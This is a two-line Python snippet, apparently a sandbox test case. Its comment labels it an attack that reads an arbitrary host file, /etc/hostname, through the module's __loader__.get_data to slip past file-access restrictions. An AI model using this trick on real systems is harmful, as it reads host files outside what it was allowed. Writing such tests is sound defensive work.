# attack: read an arbitrary host file through the module's __loader__
print(__loader__.get_data("/etc/hostname"))
